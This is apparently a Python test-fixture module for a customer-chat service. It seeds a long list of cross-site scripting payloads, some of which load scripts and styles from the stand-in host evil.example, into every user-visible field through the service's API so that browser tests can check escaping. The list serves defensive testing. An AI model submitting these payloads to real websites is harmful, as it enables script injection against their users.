"""Words that try to run as code, and a way to put them wherever people's words are shown.

``seed`` uses only the public wire, so it works on a centre in the same process and on one in another, before a browser opens its
pages. Whatever runs calls ``alert`` or loads something from ``evil.example``.
"""

from collections.abc import Awaitable, Callable
from typing import Any, Protocol

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<object data=javascript:alert(1)></object>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}${7*7}#{7*7}<%=7*7%>",
    "'-alert(1)-'",
    '";alert(1);//',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u2028alert(1)\u2029",
    "<img src=`x`onerror=alert(1)>",
    "<x onclick=alert(1) style=position:fixed;inset:0>click</x>",
    'https://evil.example/" onmouseover="alert(1)',
    "[click](javascript:alert(1))",
    "<img src=//evil.example/pixel.gif>",
)

Json = dict[str, Any]
Ask = Callable[[str, str, Any], Awaitable[Any]]
"""``ask(method, path below /api/v1, JSON or None)`` as somebody who may do everything; answers with the JSON."""


class Tab(Protocol):
    """A visitor's connected tab."""

    async def ask(self, event: str, data: Any = None) -> Any:
        """Emit, and wait for the acknowledgement."""

    @property
    def welcome(self) -> Json:
        """What the server said first."""


OpenTab = Callable[[str, Json], Awaitable[Tab]]
"""``open_tab(widget key, page)`` connects a new visitor who is on that page."""
Upload = Callable[[str, str, bytes], Awaitable[str]]
"""``upload(visitor token, file name, bytes)`` answers with the file's id."""


async def seed(ask: Ask, open_tab: OpenTab, upload: Upload, queue: str) -> list[str]:
    """Every payload in every place: names of queues, agents, tags, templates, widgets; then one Conversation each. Answers with their ids."""
    return [await _seeded(number, payload, ask, open_tab, upload, queue) for number, payload in enumerate(PAYLOADS)]


async def _seeded(number: int, payload: str, ask: Ask, open_tab: OpenTab, upload: Upload, queue: str) -> str:
    name = f"{payload} {number}"[:120]
    await ask("POST", "/queues", {"name": name, "away_text": payload[:200]})
    await ask("POST", "/agents", {"name": name, "email": f"x{number}@xss.example", "queues": []})
    await ask("POST", "/teams", {"name": name})
    await ask("POST", "/tags", {"name": name})
    await ask("POST", "/templates", {"name": name, "shortcut": f"xss{number}", "text": payload})
    texts = {"en": {"title": payload, "greeting": payload}}
    form = [{"name": "topic", "label": payload, "kind": "choice", "choices": [payload]}]
    consent = {"required": False, "text": payload, "version": "1", "policy_url": ""}
    widget = {"name": name, "sites": ["*"], "queue": queue, "texts": texts, "form": form, "consent": consent}
    key = (await ask("POST", "/widgets", widget))["key"]
    tab = await open_tab(key, {"url": f"https://shop.example/?{payload}", "title": payload, "referrer": payload})
    introduction = {"name": payload, "email": payload[:254], "phone": payload[:254], "form": {"topic": payload}}
    assert (await tab.ask("introduce", introduction))["ok"]
    file = await upload(tab.welcome["token"], f"{payload}.png", b"\x89PNG\r\n\x1a\n")
    ack = await tab.ask("message", {"id": "m1", "text": payload, "files": [file]})
    assert ack["ok"], ack
    one = f"/conversations/{ack['conversation']}"
    await ask("POST", f"{one}/messages", {"id": "n1", "channel": "note", "text": payload})
    await ask("PUT", f"{one}/tags", {"tags": [payload[:60]]})
    await ask("PUT", f"{one}/draft", {"channel": "chat", "text": payload})
    row = await ask("GET", one, None)
    customer = await ask("GET", f"/customers/{row['customer']['id']}", None)
    fields = {"rv": customer["rv"], "note": payload, "language": payload[:20], "tags": [payload[:200]]}
    await ask("PATCH", f"/customers/{customer['id']}", {**fields, "fields": {"Size": payload[:200]}})
    await ask("PUT", f"{one}/assignment", {"queue": queue, "note": payload})
    return str(ack["conversation"])
